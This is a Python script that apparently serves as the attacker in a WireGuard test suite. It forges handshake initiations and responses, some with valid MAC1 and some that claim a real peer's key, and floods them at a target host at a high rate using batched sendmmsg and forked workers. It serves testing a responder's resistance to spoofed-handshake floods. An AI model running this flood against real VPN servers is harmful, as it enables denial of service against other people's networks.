"""Forged WireGuard handshake messages at a fixed rate (the attacker in
test_attack_wg.py). Run inside the attacker's namespace:

    python3 wg_flood.py HOST PORT RESPONDER_PUB_B64 CLAIMED_PUB_B64 RATE SECONDS [PROCESSES]

Sends, in turn: initiations of random bytes (wrong MAC1), responses of random
bytes (wrong MAC1), initiations with a valid MAC1 for the responder's key and
an unknown static key, and initiations that claim CLAIMED_PUB (the real peer's
key, correctly encrypted, valid MAC1; only the timestamp cannot be forged).
Prints one JSON line: packets sent, seconds, rate achieved."""

import base64
import ctypes
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives import serialization

CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"
LABEL_MAC1 = b"mac1----"


def blake(*parts):
    h = hashlib.blake2s()
    for p in parts:
        h.update(p)
    return h.digest()


def mac(key, data):
    return hmac.new(key, data, hashlib.blake2s).digest()


def kdf2(key, data):
    t0 = mac(key, data)
    t1 = mac(t0, b"\x01")
    return t1, mac(t0, t1 + b"\x02")


def mac1(responder_pub, msg):
    return hashlib.blake2s(msg, key=blake(LABEL_MAC1, responder_pub), digest_size=16).digest()


def raw(pub):
    return pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)


def claimed_init(responder_pub, claimed_pub):
    """An initiation in `claimed_pub`'s name: everything right but the
    timestamp, which needs the claimed key's private half."""
    c = blake(CONSTRUCTION)
    h = blake(blake(c, IDENTIFIER), responder_pub)
    e = X25519PrivateKey.generate()
    epub = raw(e.public_key())
    c = mac(mac(c, epub), b"\x01")
    h = blake(h, epub)
    c, k = kdf2(c, e.exchange(X25519PublicKey.from_public_bytes(responder_pub)))
    static = ChaCha20Poly1305(k).encrypt(b"\0" * 12, claimed_pub, h)
    msg = struct.pack("<II", 1, int.from_bytes(os.urandom(4), "little")) + epub + static + os.urandom(28)
    return msg + mac1(responder_pub, msg) + b"\0" * 16


def packets(responder_pub, claimed_pub, n=256):
    out = []
    for i in range(n):
        kind = i % 4
        if kind == 0:
            out.append(b"\x01\0\0\0" + os.urandom(144))
        elif kind == 1:
            out.append(b"\x02\0\0\0" + os.urandom(88))
        elif kind == 2:
            msg = b"\x01\0\0\0" + os.urandom(112)
            out.append(msg + mac1(responder_pub, msg) + b"\0" * 16)
        else:
            out.append(claimed_init(responder_pub, claimed_pub))
    return out


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(_Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", _Msghdr), ("len", ctypes.c_uint)]


class Batch:
    """`pkts` as one sendmmsg(2) vector: one system call sends all of them,
    so the sender is not the bottleneck (one Python send() per datagram
    topped out near 30,000/s on this machine)."""

    def __init__(self, pkts):
        self.bufs = [ctypes.create_string_buffer(p, len(p)) for p in pkts]
        self.iovs = (_Iovec * len(pkts))()
        self.msgs = (_Mmsghdr * len(pkts))()
        for i, (b, p) in enumerate(zip(self.bufs, pkts)):
            self.iovs[i].base = ctypes.cast(b, ctypes.c_void_p)
            self.iovs[i].len = len(p)
            self.msgs[i].hdr.iov = ctypes.pointer(self.iovs[i])
            self.msgs[i].hdr.iovlen = 1
        self.n = len(pkts)
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]

    def send(self, fd, count):
        """Send the first `count` (<= n) datagrams; return how many went out."""
        r = self.libc.sendmmsg(fd, ctypes.byref(self.msgs), count, 0)
        return max(r, 0)  # -1: ENOBUFS or an ICMP error reported on the socket


def send_at(pkts, host, port, rate, secs):
    """Send `pkts` round-robin at `rate` per second for `secs`, a
    sendmmsg(2) batch at a time; return how many went out."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.connect((host, port))
    batch = Batch(pkts)
    fd = s.fileno()
    sent = 0
    start = time.monotonic()
    end = start + secs
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = (now - start) * rate
        if sent >= due:
            time.sleep(min(0.001, (sent - due) / rate))
            continue
        sent += batch.send(fd, min(batch.n, max(1, int(due - sent) + 1)))
    return sent


def main():
    host, port, rpub, cpub, rate, secs = sys.argv[1:7]
    workers = int(sys.argv[7]) if len(sys.argv) > 7 else 1
    pkts = packets(base64.b64decode(rpub), base64.b64decode(cpub))
    rate, secs = float(rate), float(secs)
    # One process with sendmmsg(2) is enough; more split the rate.
    pipes = []
    start = time.monotonic()
    for w in range(workers):
        r, wr = os.pipe()
        if os.fork() == 0:
            os.close(r)
            sent = send_at(pkts[w::workers], host, int(port), rate / workers, secs)
            os.write(wr, str(sent).encode())
            os._exit(0)
        os.close(wr)
        pipes.append(r)
    sent = 0
    for r in pipes:
        sent += int(os.read(r, 64) or b"0")
        os.close(r)
    for _ in pipes:
        os.wait()
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2), "rate": round(sent / elapsed)}))


if __name__ == "__main__":
    main()
